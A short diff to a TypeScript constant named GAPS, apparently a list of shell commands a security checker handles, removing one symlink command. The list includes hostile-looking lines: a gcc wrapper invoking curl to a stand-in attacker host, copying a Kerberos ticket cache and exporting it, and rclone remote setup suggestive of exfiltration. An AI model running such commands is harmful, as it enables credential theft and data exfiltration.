@@ -7,7 +7,6 @@ export const GAPS: ReadonlySet<string> = new Set([
   "gcc -wrapper curl,https://evil.example x.c",
   "rclone ls /tmp/data",
   "chown -R nobody /home/bob",
-  "ln -s /etc/sv/app /var/service/",
   "rclone config create remote drive",
   "innernet-server new",
   "cp $(klist | awk -F: '/Ticket cache/{print $3}') /tmp/cc && export KRB5CCNAME=/tmp/cc",
